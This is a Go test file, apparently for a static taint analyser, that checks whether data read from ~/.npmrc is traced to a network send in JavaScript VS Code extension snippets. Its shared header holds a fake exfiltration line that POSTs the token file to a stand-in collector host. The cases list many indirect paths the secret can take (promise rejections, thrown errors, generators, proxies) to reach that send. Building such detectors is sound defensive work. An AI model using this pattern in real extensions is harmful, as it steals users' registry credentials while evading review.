@@ -1,0 +1,116 @@
+package probes
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// carriedHead is what every program below begins with: secret() reads what is private, out(x) sends x.
+const carriedHead = `const vscode = require("vscode"), fs = require("fs"), os = require("os"), path = require("path");
+const secret = () => fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const out = (x) => fetch("https://collect.mole.invalid/in", { method: "POST", body: x });
+exports.activate = (context) => {
+`
+
+// carriedCase is a way by which a value travels: held is a program that sends it so, and free a twin that does the same with
+// something that says nothing of it.
+type carriedCase struct{ name, held, free string }
+
+// sent reports whether a program sends what it reads.
+func sent(t *testing.T, code string) bool {
+	t.Helper()
+	p, err := analyze(t.Context(), t, map[string]string{"main.js": carriedHead + code + "\n};"}, "main.js")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range p.Trails {
+		if f.Source.Kind == "secret" && f.Sink.Kind == "send" {
+			return true
+		}
+	}
+	return false
+}
+
+// TestCarried: what is private is found where it is sent, by every way of the language and of Node; and the twin sends nothing.
+func TestCarried(t *testing.T) {
+	cases := slices.Concat(carriedByLanguage)
+	for _, c := range cases {
+		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
+			t.Parallel()
+			if !sent(t, c.held) {
+				t.Errorf("not found: %s", c.held)
+			}
+			if c.free != "" && sent(t, c.free) {
+				t.Errorf("found and is not there: %s", c.free)
+			}
+		})
+	}
+}
+
+// carriedByLanguage are values of the language that hold another one.
+var carriedByLanguage = []carriedCase{
+	{"a rejection", `Promise.reject(secret()).catch((e) => out(e));`, `Promise.reject("no").catch((e) => out(e)); secret();`},
+	{
+		"a rejection after then",
+		`Promise.reject(secret()).then((v) => v).catch((e) => out(e));`,
+		`Promise.reject(secret()).then((v) => out(v));`,
+	},
+	{"the second function of then", `Promise.reject(secret()).then(() => 1, (e) => out(e));`, `Promise.reject("x").then(()
+			=> 1, (e) => out(e)); secret();`},
+	{
+		"reject of a promise",
+		`new Promise((ok, no) => { no(secret()); }).catch((e) => out(e));`,
+		`new Promise((ok, no) => { no("x"); ok(secret()); }).catch((e) => out(e));`,
+	},
+	{"a message", `try { throw new Error(secret()); } catch (e) { out(e.message); }`, `try { secret();
+			throw new Error("no"); } catch (e) { out(e.message); }`},
+	{
+		"a message of an own error",
+		`class Oops extends TypeError { constructor(m, n) { super(m); this.n = n; } } try { throw new Oops(secret(), 1);
+			} catch (e) { out(e.message); }`,
+		`class Oops extends TypeError { constructor(m, n) { super(m); this.n = n; } } try { throw new Oops("no", secret());
+			} catch (e) { out(e.message); }`,
+	},
+	{
+		"thrown by another function",
+		`function f() { throw secret(); } try { f(); } catch (e) { out(e); }`,
+		`function f() { throw "no"; } try { f(); secret(); } catch (e) { out(e); }`,
+	},
+	{
+		"thrown by an async function",
+		`async function f() { throw new Error(secret()); } f().catch((e) => out(e.message));`,
+		`async function f() { secret(); throw new Error("no"); } f().catch((e) => out(e.message));`,
+	},
+	{
+		"a thenable",
+		`const t = { then(r) { r(secret()); } }; (async () => { out(await t); })();`,
+		`const t = { then(r, n) { n(secret()); r("x"); } }; (async () => { out(await t); })();`,
+	},
+	{
+		"a promise and its functions",
+		`const { promise, resolve } = Promise.withResolvers(); promise.then((v) => out(v)); resolve(secret());`,
+		`const { promise, resolve } = Promise.withResolvers(); promise.then((v) => out(v)); resolve("x"); secret();`,
+	},
+	{
+		"what a generator is sent",
+		`function* g() { const v = yield; out(v); } const i = g(); i.next(); i.next(secret());`,
+		`function* g() { const v = yield; out(v); } const i = g(); i.next(); const j = new Map(); j.next(secret());`,
+	},
+	{
+		"an asynchronous iterator",
+		`const o = { async *[Symbol.asyncIterator]() { yield secret(); } }; (async () => { for await (const v of o) out(v); })();`,
+		`const o = { async *[Symbol.asyncIterator]() { secret(); yield "x"; } };
+			(async () => { for await (const v of o) out(v); })();`,
+	},
+	{
+		"a proxy that is told",
+		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; } }); p.a = secret();`,
+		`const p = new Proxy({}, { set(t, k, v) { out(k); return true; } }); p.a = secret();`,
+	},
+	{
+		"a proxy that gives and is told",
+		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; }, get: () => "x" }); p.a; p["b" + 1] = secret();`,
+		`const p = new Proxy({}, { set(t, k, v) { out(v); return true; }, get: () => secret() }); p.a; p.b = "x";`,
+	},
+}
